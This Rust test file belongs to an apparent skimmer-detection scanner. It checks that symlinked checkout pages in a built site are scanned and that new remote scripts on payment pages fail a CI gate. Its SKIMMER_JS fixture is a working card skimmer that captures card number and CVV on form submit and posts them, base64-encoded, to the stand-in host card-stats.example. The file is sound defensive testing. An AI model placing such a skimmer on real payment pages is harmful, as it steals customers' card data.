//! Issue 7 ("never silently clean"): built site directories, the CI-before-deploy case.
//! Symbolic links inside `dist/` (deploy tools link shared templates into place) used to be
//! skipped without a word, so a checkout linked into place was never scanned; and a new
//! remote script on a payment page was "not JavaScript a browser runs" (low) because the scan
//! does not fetch it, so it passed the gate. Each test here failed that way before.

mod common;
use common::*;
use std::path::Path;

fn checkout_html(extra: &str) -> String {
    format!(
        r#"<!doctype html><html><head><meta charset="utf-8"><title>Checkout | Kumo Tea</title>
<script src="/static/checkout.js"></script>{extra}
</head><body>
<form id="payment-form" action="/checkout/place-order" method="post">
  <input id="cc-number" name="payment[cc_number]" autocomplete="cc-number">
  <input id="cc-exp" name="payment[cc_exp]" autocomplete="cc-exp">
  <input id="cc-cvv" name="payment[cc_cid]" autocomplete="cc-csc">
  <button type="submit">Place order</button>
</form></body></html>"#
    )
}

const CHECKOUT_JS: &str = "(function () {
  var form = document.getElementById('payment-form');
  form.addEventListener('submit', function (e) {
    var n = document.getElementById('cc-number').value.replace(/\\s+/g, '');
    if (n.length < 12) { e.preventDefault(); alert('Please check the card number.'); }
  });
})();
";

const SKIMMER_JS: &str = "(function(){var f=document.getElementById('payment-form');f.addEventListener('submit',function(){var d=document.getElementById('cc-number').value+'|'+document.getElementById('cc-cvv').value;var x=new XMLHttpRequest();x.open('POST','https://card-stats.example/c',true);x.send(btoa(d));});})();";

fn shop(dist: &Path) {
    write_file(
        dist,
        "index.html",
        "<!doctype html><title>Kumo Tea</title><a href=\"/cart/\">Cart</a>",
    );
    write_file(dist, "static/checkout.js", CHECKOUT_JS);
}

#[cfg(unix)]
#[test]
fn a_checkout_folder_linked_into_place_is_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let dist = dir.path().join("dist");
    shop(&dist);
    // The real checkout lives in a hidden shared folder and is linked to /checkout.
    write_file(
        &dist,
        ".shared/pay/index.html",
        checkout_html(r#"<script src="./pay.js"></script>"#),
    );
    write_file(&dist, ".shared/pay/pay.js", SKIMMER_JS);
    std::os::unix::fs::symlink(".shared/pay", dist.join("checkout")).unwrap();
    // A loop back to the site root must not be walked forever.
    std::os::unix::fs::symlink("..", dist.join(".shared/pay/up")).unwrap();
    std::os::unix::fs::symlink("../checkout", dist.join("static/again")).unwrap();
    let (code, report, stderr) = scan_json(&[dist.to_str().unwrap()]);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    // Reported at the address the link gives it, as a web server would serve it.
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "payment-data-exfiltration"
                && f["hosts"][0] == "card-stats.example"
                && f["page"]
                    .as_str()
                    .is_some_and(|p| p.ends_with("dist/checkout/index.html"))),
        "{report:#}"
    );
}

#[cfg(unix)]
#[test]
fn a_page_file_linked_to_a_template_is_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let dist = dir.path().join("dist");
    shop(&dist);
    write_file(
        &dist,
        ".templates/checkout.html",
        checkout_html(r#"<script src="/static/pay.js"></script>"#),
    );
    write_file(&dist, "static/pay.js", SKIMMER_JS);
    std::fs::create_dir_all(dist.join("checkout")).unwrap();
    std::os::unix::fs::symlink(
        "../.templates/checkout.html",
        dist.join("checkout/index.html"),
    )
    .unwrap();
    let (code, report, stderr) = scan_json(&[dist.to_str().unwrap()]);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    assert!(
        report["pages"].as_array().unwrap().iter().any(|p| p["url"]
            .as_str()
            .is_some_and(|u| u.ends_with("checkout/index.html"))
            && p["payment_form"] == true),
        "{report:#}"
    );
}

#[cfg(unix)]
#[test]
fn a_link_leaving_the_directory_is_refused_and_the_scan_is_incomplete() {
    let outside = tempfile::tempdir().unwrap();
    write_file(outside.path(), "pay/index.html", checkout_html(""));
    let dir = tempfile::tempdir().unwrap();
    let dist = dir.path().join("dist");
    shop(&dist);
    std::os::unix::fs::symlink(outside.path().join("pay"), dist.join("checkout")).unwrap();
    let (code, report, stderr) = scan_json(&[dist.to_str().unwrap()]);
    assert_eq!(code, 3, "{stderr}\n{report:#}");
    assert_eq!(report["complete"], false);
    let errors = report["errors"].as_array().unwrap();
    assert!(
        errors.iter().any(|e| e["url"]
            .as_str()
            .is_some_and(|u| u.ends_with("dist/checkout"))
            && e["message"]
                .as_str()
                .unwrap_or("")
                .contains("outside the site directory")),
        "{report:#}"
    );
    // Nothing outside was read as a page.
    assert!(
        report["pages"]
            .as_array()
            .unwrap()
            .iter()
            .all(|p| !p["url"].as_str().unwrap_or("").contains("checkout")),
        "{report:#}"
    );
}

fn baseline_of(dist: &Path, out: &Path) {
    skimscan()
        .args(["baseline", "create", "--out"])
        .arg(out)
        .arg(dist)
        .assert()
        .code(0);
}

/// Record the built shop's baseline, then rebuild it with `extra` tags on the checkout and
/// scan the new build against the baseline.
fn rebuild_and_scan(extra: &str) -> (i32, serde_json::Value, String) {
    let dir = tempfile::tempdir().unwrap();
    let dist = dir.path().join("dist");
    shop(&dist);
    write_file(&dist, "checkout/index.html", checkout_html(""));
    let base = dir.path().join("baseline.json");
    baseline_of(&dist, &base);
    write_file(&dist, "checkout/index.html", checkout_html(extra));
    scan_json(&["--baseline", base.to_str().unwrap(), dist.to_str().unwrap()])
}

fn new_script_findings(report: &serde_json::Value) -> Vec<&serde_json::Value> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "baseline-new-script")
        .collect()
}

#[test]
fn a_new_remote_script_on_a_payment_page_fails_the_gate() {
    // The next build adds a script from an unknown host to the checkout; a local build's
    // remote scripts are not fetched, yet every customer's browser runs it.
    let (code, report, stderr) = rebuild_and_scan(
        r#"<script src="https://cdn.jquery-ui-widgets.example/ui.min.js"></script>"#,
    );
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    let new = new_script_findings(&report);
    assert_eq!(new.len(), 1, "{report:#}");
    assert_eq!(new[0]["severity"], "high", "{report:#}");
    assert!(
        !new[0]["message"]
            .as_str()
            .unwrap_or("")
            .contains("not JavaScript"),
        "{report:#}"
    );
}

#[test]
fn a_new_data_block_is_still_low() {
    let (code, report, stderr) = rebuild_and_scan(
        r#"<script type="application/ld+json">{"@context":"https://schema.org","@type":"Store","name":"Kumo Tea"}</script>
<script type="text/x-template" src="https://cdn.templates.example/cart.tpl"></script>"#,
    );
    assert_eq!(code, 0, "{stderr}\n{report:#}");
    let news = new_script_findings(&report);
    assert_eq!(news.len(), 2, "{report:#}");
    assert!(news.iter().all(|f| f["severity"] == "low"), "{report:#}");
}
